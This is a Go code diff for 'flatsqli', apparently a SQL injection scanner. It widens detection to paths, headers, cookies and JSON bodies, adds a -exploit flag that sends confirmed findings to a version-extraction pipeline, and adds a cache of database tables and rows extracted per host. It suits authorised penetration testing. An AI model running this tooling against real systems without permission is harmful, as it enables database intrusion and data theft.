-		// Create requester
-		httpRequester, err := requester.New(req, config.Timeout, config.Proxy, config.Verbose)
-		if err != nil {
-			ui.Verbose(config.Verbose, "Failed to create requester for %s: %v", rawURL, err)
+			// A lone -u URL has nothing else to scan, say why
+			if config.URL != "" {
+				ui.ProgressDone()
+				ui.Error("%v", err)
+				os.Exit(1)
+			}
+			ui.Verbose(config.Verbose, "Skipping URL: %v", err)
 			continue
 		}
-
-		// Set custom headers if provided
-		if len(config.Headers) > 0 {
-			httpRequester.SetHeaders(config.Headers)
-		}
-
-		// Create scanner and scan
-		scan := scanner.New(req, httpRequester, config.Verbose)
-		results := scan.ScanAll()
+		stats.Add(urlStats)
 
 		// Check for vulnerabilities
 		for _, r := range results {
 			if r.IsVulnerable {
 				vulnCount++
+				if exploitResult == nil {
+					exploitReq, exploitResult = req, r
+				}
 				// Build URL with <PAYLOAD> marker
-				markedURL := buildMarkedURL(rawURL, r.Parameter.Name)
+				markedURL := rawURL
+				switch r.Parameter.Location {
+				case "url":
+					markedURL = buildMarkedURL(rawURL, r.Parameter.Name, markerFor(r, config.Contexts))
+				case "path":
+					markedURL = scanner.MarkPathSegment(rawURL, r.Parameter, markerFor(r, config.Contexts))
+				}
+				// Keep the URL file line syntax for non-GET requests: METHOD URL [BODY]
+				if req.Body != "" || req.Method != "GET" {
+					markedBody := req.Body
+					if r.Parameter.Location == "body-form" {
+						markedBody = buildMarkedQuery(req.Body, r.Parameter.Name, markerFor(r, config.Contexts))
+					}
+					markedURL = strings.TrimSpace(fmt.Sprintf("%s %s %s", req.Method, markedURL, markedBody))
+				}
+				if r.Parameter.Location == "header" {
+					markedURL = fmt.Sprintf("%s  # %s", markedURL, markedHeader(r.Parameter, markerFor(r, config.Contexts)))
+				}
 				writer.WriteURLResult(markedURL, r.Parameter.Name)
 				// Store for printing
-				vulnList = append(vulnList, fmt.Sprintf("%s://%s%s (param: %s)", req.Scheme, req.Host, req.Path, r.Parameter.Name))
+				vulnList = append(vulnList, describeFinding(req, r))
 				ui.Verbose(config.Verbose, "Found potential SQLi: %s (param: %s)", rawURL, r.Parameter.Name)
+			} else if r.Candidate {
+				ui.Verbose(config.Verbose, "Unconfirmed %s candidate in param: %s (confidence: %s)", r.VulnType, r.Parameter.Name, r.Confidence)
 			}
 		}
+
+		if config.StopOnFirst && vulnCount > 0 {
+			ui.Verbose(config.Verbose, "Stopping at first finding (-stop-on-first)")
+			break
+		}
 	}
 
 	ui.ProgressDone()
@@ -565,6 +1543,9 @@ func runDetectURLs(config DetectConfig, writer *output.Writer) {
 	if vulnCount > 0 {
 		ui.Success("Scan complete. Found %d potential injection point(s).", vulnCount)
 		for _, v := range vulnList {
+			if ui.Quiet() {
+				ui.Data("%s", v)
+			}
 			ui.Info("  %s", v)
 		}
 		if config.OutputFile != "" {
@@ -573,6 +1554,70 @@ func runDetectURLs(config DetectConfig, writer *output.Writer) {
 	} else {
 		ui.Info("Scan complete. No SQL injection vulnerabilities detected.")
 	}
+	ui.Info("%s", stats)
+
+	if config.Exploit && exploitResult != nil {
+		exploitFinding(config, exploitReq, exploitResult)
+	}
+}
+
+// scanURL scans one URL line ([METHOD] URL [BODY], see parser.ParseURLLine),
+// applying -method/-data when the line sets no method. Returns an error when
+// the URL is skipped.
+func scanURL(config DetectConfig, line string) (string, *parser.ParsedRequest, []*scanner.ScanResult, requester.Stats, error) {
+	// Lines may carry their own method and body, otherwise -method/-data apply
+	method, rawURL, body := parser.ParseURLLine(line)
+	if method == "" {
+		method = strings.ToUpper(config.Method)
+		body = config.Data
+	}
+	if method == "" {
+		method = "GET"
+		if body != "" {
+			method = "POST"
+		}
+	}
+
+	// Convert URL to request
+	req, err := parser.URLToRequestWithBody(rawURL, method, body)
+	if err != nil {
+		return rawURL, nil, nil, requester.Stats{}, fmt.Errorf("invalid URL %s: %w", rawURL, err)
+	}
+
+	// Override scheme if --http flag is set
+	if config.UseHTTP {
+		req.Scheme = "http"
+	}
+
+	// Check if URL has parameters
+	if !strings.Contains(req.Path, "?") && req.Body == "" && !config.FuzzHeaders && !config.PathFuzz {
+		return rawURL, nil, nil, requester.Stats{}, fmt.Errorf("URL without parameters: %s", rawURL)
+	}
+
+	// Create requester
+	httpRequester, err := newRequester(req, config.HTTPOptions, config.Verbose)
+	if err != nil {
+		return rawURL, nil, nil, requester.Stats{}, fmt.Errorf("failed to create requester for %s: %w", rawURL, err)
+	}
+
+	// Create scanner and scan
+	scan := scanner.New(req, httpRequester, config.Verbose)
+	scan.SetFuzzHeaders(config.FuzzHeaders)
+	scan.SetPathFuzz(config.PathFuzz)
+	scan.SetStopOnFirst(config.StopOnFirst)
+	scan.SetContexts(config.Contexts)
+	scan.SetParamFilter(splitList(config.IncludeParams), splitList(config.ExcludeParams))
+	scan.SetSeeds(config.seeds)
+	results := scan.ScanAll()
+	return rawURL, req, results, httpRequester.Stats(), nil
+}
+
+// describeFinding formats a vulnerable parameter for the detect summary
+func describeFinding(req *parser.ParsedRequest, r *scanner.ScanResult) string {
+	if r.ColumnCount > 0 {
+		return fmt.Sprintf("%s://%s%s (param: %s, confidence: %s, columns: %d)", req.Scheme, req.Host, req.Path, r.Parameter.Name, r.Confidence, r.ColumnCount)
+	}
+	return fmt.Sprintf("%s://%s%s (param: %s, confidence: %s)", req.Scheme, req.Host, req.Path, r.Parameter.Name, r.Confidence)
 }
 
 func runDetectRequests(config DetectConfig, writer *output.Writer) {
@@ -588,6 +1633,9 @@ func runDetectRequests(config DetectConfig, writer *output.Writer) {
 
 	vulnCount := 0
 	var vulnList []string
+	var stats requester.Stats
+	var exploitReq *parser.ParsedRequest // first finding, for -exploit
+	var exploitResult *scanner.ScanResult
 	for i, req := range requests {
 		ui.Progress("Scanning request %d/%d...", i+1, len(requests))
 
@@ -597,35 +1645,47 @@ func runDetectRequests(config DetectConfig, writer *output.Writer) {
 		}
 
 		// Create requester
-		httpRequester, err := requester.New(req, config.Timeout, config.Proxy, config.Verbose)
+		httpRequester, err := newRequester(req, config.HTTPOptions, config.Verbose)
 		if err != nil {
 			ui.Verbose(config.Verbose, "Failed to create requester: %v", err)
 			continue
 		}
 
-		// Set custom headers if provided
-		if len(config.Headers) > 0 {
-			httpRequester.SetHeaders(config.Headers)
-		}
-
 		// Create scanner and scan
 		scan := scanner.New(req, httpRequester, config.Verbose)
+		scan.SetFuzzHeaders(config.FuzzHeaders)
+		scan.SetPathFuzz(config.PathFuzz)
+		scan.SetStopOnFirst(config.StopOnFirst)
+		scan.SetContexts(config.Contexts)
+		scan.SetParamFilter(splitList(config.IncludeParams), splitList(config.ExcludeParams))
+		scan.SetSeeds(config.seeds)
 		results := scan.ScanAll()
+		stats.Add(httpRequester.Stats())
 
 		// Check for vulnerabilities
 		for _, r := range results {
 			if r.IsVulnerable {
 				vulnCount++
+				if exploitResult == nil {
+					exploitReq, exploitResult = req, r
+				}
 				// Build request with <PAYLOAD> marker
-				markedRequest := buildMarkedRequest(req.RawRequest, r.Parameter)
+				markedRequest := buildMarkedRequest(req.RawRequest, r.Parameter, markerFor(r, config.Contexts))
 				// Apply custom headers to the output request
 				markedRequest = applyHeadersToRequest(markedRequest, config.Headers)
 				writer.WriteRequestResult(markedRequest, r.Parameter.Name)
 				// Store for printing
-				vulnList = append(vulnList, fmt.Sprintf("%s://%s%s (param: %s)", req.Scheme, req.Host, req.Path, r.Parameter.Name))
+				vulnList = append(vulnList, describeFinding(req, r))
 				ui.Verbose(config.Verbose, "Found potential SQLi in param: %s", r.Parameter.Name)
+			} else if r.Candidate {
+				ui.Verbose(config.Verbose, "Unconfirmed %s candidate in param: %s (confidence: %s)", r.VulnType, r.Parameter.Name, r.Confidence)
 			}
 		}
+
+		if config.StopOnFirst && vulnCount > 0 {
+			ui.Verbose(config.Verbose, "Stopping at first finding (-stop-on-first)")
+			break
+		}
 	}
 
 	ui.ProgressDone()
@@ -633,6 +1693,9 @@ func runDetectRequests(config DetectConfig, writer *output.Writer) {
 	if vulnCount > 0 {
 		ui.Success("Scan complete. Found %d potential injection point(s).", vulnCount)
 		for _, v := range vulnList {
+			if ui.Quiet() {
+				ui.Data("%s", v)
+			}
 			ui.Info("  %s", v)
 		}
 		if config.OutputFile != "" {
@@ -641,45 +1704,136 @@ func runDetectRequests(config DetectConfig, writer *output.Writer) {
 	} else {
 		ui.Info("Scan complete. No SQL injection vulnerabilities detected.")
 	}
+	ui.Info("%s", stats)
+
+	if config.Exploit && exploitResult != nil {
+		exploitFinding(config, exploitReq, exploitResult)
+	}
+}
+
+// exploitFinding hands a confirmed finding over to the exploit pipeline: the
+// request is marked as detect would write it (with the confirmed context, so
+// the marker takes a condition) and calibrated, then the version is extracted
+func exploitFinding(config DetectConfig, req *parser.ParsedRequest, r *scanner.ScanResult) {
+	markedRequest := buildMarkedRequest(req.RawRequest, r.Parameter, markerFor(r, true))
+	marked, err := parser.ParseRequest(markedRequest)
+	if err != nil || marked.MarkerPosition == -1 {
+		ui.Warning("Could not build a marked request for %s (%s), exploit it manually", r.Parameter.Name, r.Parameter.Location)
+		return
+	}
+	marked.Scheme = req.Scheme
+
+	fmt.Fprintln(os.Stderr)
+	ui.Info("Exploiting param: %s", r.Parameter.Name)
+
+	// The exploit defaults come from its flags, the HTTP options from detect
+	var exploitConfig ExploitConfig
+	newExploitFlags(&exploitConfig)
+	exploitConfig.HTTPOptions = config.HTTPOptions
+	exploitConfig.Verbose = config.Verbose
+	exploitConfig.Quiet = config.Quiet
+	exploitConfig.NoColor = config.NoColor
+	exploitConfig.DataValue = r.Parameter.ProbeValue()
+	exploitConfig.request = marked
+	runExploit(exploitConfig)
+}
+
+// markerFor returns the marker replacing a vulnerable parameter value: <PAYLOAD>,
+// or with withContext the confirmed value and closure context around it, so the
+// output can be exploited as is. Prefix and suffix are escaped for the location.
+func markerFor(r *scanner.ScanResult, withContext bool) string {
+	if !withContext || r.Context == nil {
+		return "<PAYLOAD>"
+	}
+
+	escape := func(s string) string { return s }
+	switch {
+	case r.Parameter.Location == "url" || r.Parameter.Location == "body-form" || strings.EqualFold(r.Parameter.Path, "Cookie"):
+		escape = url.QueryEscape
+	case r.Parameter.Location == "path":
+		escape = url.PathEscape
+	case r.Parameter.Location == "body-json" || r.Parameter.Location == "graphql-var":
+		escape = func(s string) string {
+			quoted, _ := json.Marshal(s)
+			return string(quoted[1 : len(quoted)-1])
+		}
+	}
+	return escape(r.Context.Prefix(r.BaseValue)) + "<PAYLOAD>" + escape(r.Context.Suffix())
 }
 
-// buildMarkedURL replaces the vulnerable parameter value with <PAYLOAD>
-func buildMarkedURL(rawURL, paramName string) string {
+// buildMarkedURL replaces the vulnerable parameter value with marker
+func buildMarkedURL(rawURL, paramName, marker string) string {
 	// Parse the URL to find and replace the parameter value
 	parts := strings.SplitN(rawURL, "?", 2)
 	if len(parts) != 2 {
 		return rawURL
 	}
 
-	base := parts[0]
-	query := parts[1]
+	return parts[0] + "?" + buildMarkedQuery(parts[1], paramName, marker)
+}
 
+// buildMarkedQuery replaces a parameter value in a query string or form body with marker
+func buildMarkedQuery(query, paramName, marker string) string {
 	params := strings.Split(query, "&")
 	for i, p := range params {
 		kv := strings.SplitN(p, "=", 2)
 		if len(kv) == 2 && kv[0] == paramName {
-			params[i] = paramName + "=<PAYLOAD>"
+			params[i] = paramName + "=" + marker
 		}
 	}
 
-	return base + "?" + strings.Join(params, "&")
+	return strings.Join(params, "&")
 }
 
-// buildMarkedRequest replaces the vulnerable parameter value with <PAYLOAD>
-func buildMarkedRequest(rawRequest string, param scanner.Parameter) string {
+// buildMarkedRequest replaces the vulnerable parameter value with marker
+func buildMarkedRequest(rawRequest string, param scanner.Parameter, marker string) string {
 	// For URL params, replace in the path
 	if param.Location == "url" {
-		return strings.Replace(rawRequest, param.Name+"="+param.Value, param.Name+"=<PAYLOAD>", 1)
+		return strings.Replace(rawRequest, param.Name+"="+param.Value, param.Name+"="+marker, 1)
+	}
+
+	// For path segments, replace the segment in the request line
+	if param.Location == "path" {
+		lineEnd := strings.IndexAny(rawRequest, "\r\n")
+		if lineEnd == -1 {
+			lineEnd = len(rawRequest)
+		}
+		fields := strings.Fields(rawRequest[:lineEnd])
+		if len(fields) < 2 {
+			return rawRequest
+		}
+		return strings.Replace(rawRequest, fields[1], scanner.MarkPathSegment(fields[1], param, marker), 1)
 	}
 
 	// For body params, replace in the body section
-	if param.Location == "body" || param.Location == "json" {
-		return strings.Replace(rawRequest, param.Name+"="+param.Value, param.Name+"=<PAYLOAD>", 1)
+	if param.Location == "body-form" {
+		return strings.Replace(rawRequest, param.Name+"="+param.Value, param.Name+"="+marker, 1)
+	}
+
+	// For header params, replace the header value (or the cookie inside Cookie)
+	if param.Location == "header" {
+		if strings.EqualFold(param.Path, "Cookie") {
+			return strings.Replace(rawRequest, param.Name+"="+param.Value, param.Name+"="+marker, 1)
+		}
+		return scanner.SetRawHeader(rawRequest, param.Path, marker)
+	}
+
+	// For JSON params, replace the value at the JSON path
+	if param.Location == "body-json" || param.Location == "graphql-var" {
+		return scanner.MarkJSONPath(rawRequest, param, marker)
 	}
 
 	return rawRequest
 }
 
+// markedHeader formats a vulnerable header parameter, e.g. "X-Forwarded-For: <PAYLOAD>"
+func markedHeader(param scanner.Parameter, marker string) string {
+	if strings.EqualFold(param.Path, "Cookie") {
+		return "Cookie: " + param.Name + "=" + marker
+	}
+	return param.Path + ": " + marker
+}
+
 // applyHeadersToRequest applies custom headers to a raw request string
 func applyHeadersToRequest(rawRequest string, headers []string) string {
 	if len(headers) == 0 {
@@ -744,3 +1898,200 @@ func applyHeadersToRequest(rawRequest string, headers []string) string {
 
 	return strings.Join(result, "\n")
 }
+
+// cacheCommand is an operation of the cache subcommand
+type cacheCommand struct {
+	name    string
+	aliases []string
+	args    string
+	help    string
+}
+
+// cacheCommands are the cache operations, in usage order
+var cacheCommands = []cacheCommand{
+	{name: "list", aliases: []string{"ls"}, help: "List cached hosts with their database, version, tables and rows"},
+	{name: "show", args: "<host>", help: "Print the database and the tables cached for a host"},
+	{name: "rm", aliases: []string{"remove"}, args: "<host>", help: "Remove a host and everything cached for it"},
+	{name: "clear", help: "Delete the whole cache file"},
+}
+
+// lookupCacheCommand returns the cache operation called name (or an alias of it)
+func lookupCacheCommand(name string) (cacheCommand, bool) {
+	for _, cmd := range cacheCommands {
+		if cmd.name == name || slices.Contains(cmd.aliases, name) {
+			return cmd, true
+		}
+	}
+	return cacheCommand{}, false
+}
+
+// printCacheUsage prints the usage of the cache subcommand
+func printCacheUsage() {
+	ui.Banner(version)
+	fmt.Fprintf(os.Stderr, `Usage: flatsqli cache <command> [host]
+
+Manages the cache of detected databases, versions, columns and rows, shared by
+every run against the same host. Run with -no-cache to neither read nor write it.
+
+Commands:
+`)
+	for _, cmd := range cacheCommands {
+		name := cmd.name
+		if len(cmd.aliases) > 0 {
+			name += ", " + strings.Join(cmd.aliases, ", ")
+		}
+		fmt.Fprintf(os.Stderr, "  %-14s %-8s %s\n", name, cmd.args, cmd.help)
+	}
+	fmt.Fprintf(os.Stderr, `
+Cache file: %s
+
+Examples:
+  flatsqli cache list
+  flatsqli cache show target.com
+  flatsqli cache rm target.com
+
+`, storage.GetCachePath())
+}
+
+// newCacheFlagSet returns the flag set of a cache operation, which only takes
+// -h/--help and prints the operation usage
+func newCacheFlagSet(cmd cacheCommand) *flag.FlagSet {
+	fs := flag.NewFlagSet("cache "+cmd.name, flag.ExitOnError)
+	fs.Usage = func() {
+		fmt.Fprintf(os.Stderr, "Usage: flatsqli cache %s %s\n\n%s\n", cmd.name, cmd.args, cmd.help)
+		if len(cmd.aliases) > 0 {
+			fmt.Fprintf(os.Stderr, "Aliases: %s\n", strings.Join(cmd.aliases, ", "))
+		}
+	}
+	return fs
+}
+
+func runCacheMode() {
+	cacheCmd := flag.NewFlagSet("cache", flag.ExitOnError)
+	cacheCmd.Usage = printCacheUsage
+	cacheCmd.Parse(os.Args[2:])
+
+	if cacheCmd.NArg() == 0 || cacheCmd.Arg(0) == "help" {
+		printCacheUsage()
+		if cacheCmd.NArg() == 0 {
+			os.Exit(1)
+		}
+		return
+	}
+
+	cmd, ok := lookupCacheCommand(cacheCmd.Arg(0))
+	if !ok {
+		ui.Error("Unknown cache command: %s", cacheCmd.Arg(0))
+		ui.Info("Run 'flatsqli cache --help' for the list of commands")
+		os.Exit(1)
+	}
+	opCmd := newCacheFlagSet(cmd)
+	opCmd.Parse(cacheCmd.Args()[1:])
+	args := opCmd.Args()
+	if cmd.args != "" && len(args) == 0 {
+		ui.Error("Host is required")
+		opCmd.Usage()
+		os.Exit(1)
+	}
+
+	switch cmd.name {
+	case "list":
+		runCacheList()
+	case "show":
+		runCacheShow(args[0])
+	case "rm":
+		if _, ok := storage.LoadHost(args[0]); !ok {
+			ui.Error("Host not found in cache: %s", args[0])
+			os.Exit(1)
+		}
+		if err := storage.RemoveHost(args[0]); err != nil {
+			ui.Error("Failed to remove host: %v", err)
+			os.Exit(1)
+		}
+		ui.Success("Removed %s from cache", args[0])
+	case "clear":
+		if err := storage.ClearCache(); err != nil && !os.IsNotExist(err) {
+			ui.Error("Failed to clear cache: %v", err)
+			os.Exit(1)
+		}
+		ui.Success("Cache cleared: %s", storage.GetCachePath())
+	}
+}
+
+// runCacheList prints a summary of all cached hosts
+func runCacheList() {
+	hosts, err := storage.LoadHosts()
+	if err != nil {
+		ui.Error("Failed to load cache: %v", err)
+		os.Exit(1)
+	}
+
+	if len(hosts) == 0 {
+		ui.Info("Cache is empty: %s", storage.GetCachePath())
+		return
+	}
+
+	tw := tabwriter.NewWriter(os.Stdout, 0, 0, 2, ' ', 0)
+	fmt.Fprintln(tw, "HOST\tDATABASE\tVERSION\tTABLES\tROWS")
+	for _, h := range hosts {
+		rows := 0
+		for _, tc := range h.Tables {
+			if tc != nil {
+				rows += len(tc.Rows)
+			}
+		}
+		fmt.Fprintf(tw, "%s\t%s\t%s\t%d\t%d\n", h.Host, valueOrDash(h.Database), valueOrDash(h.Version), len(h.Tables), rows)
+	}
+	tw.Flush()
+}
+
+// runCacheShow prints the cached tables for a host
+func runCacheShow(host string) {
+	entry, ok := storage.LoadHost(host)
+	if !ok {
+		ui.Error("Host not found in cache: %s", host)
+		os.Exit(1)
+	}
+
+	ui.Info("Host: %s", entry.Host)
+	ui.Info("Database: %s (%s)", valueOrDash(entry.Database), valueOrDash(entry.Version))
+	if entry.PartialVersion != "" {
+		ui.Info("Partial version: %s (unfinished detection)", entry.PartialVersion)
+	}
+	if len(entry.PartialValues) > 0 {
+		ui.Info("Partial values: %d (unfinished extractions, resumed on retry)", len(entry.PartialValues))
+	}
+
+	var tableNames []string
+	for tableName := range entry.Tables {
+		tableNames = append(tableNames, tableName)
+	}
+	sort.Strings(tableNames)
+
+	for _, tableName := range tableNames {
+		tc := entry.Tables[tableName]
+		if tc == nil {
+			continue
+		}
+		tableData := finder.TableData{
+			TableName: tableName,
+			Columns:   tc.Columns,
+		}
+		for _, rowMap := range tc.Rows {
+			row := make([]string, len(tc.Columns))
+			for i, col := range tc.Columns {
+				row[i] = rowMap[col]
+			}
+			tableData.Rows = append(tableData.Rows, row)
+		}
+		finder.PrintTableData(tableData)
+	}
+}
+
+// valueOrDash returns "-" for empty values in summaries
+func valueOrDash(s string) string {
+	if s == "" {
+		return "-"
+	}
+	return s
+}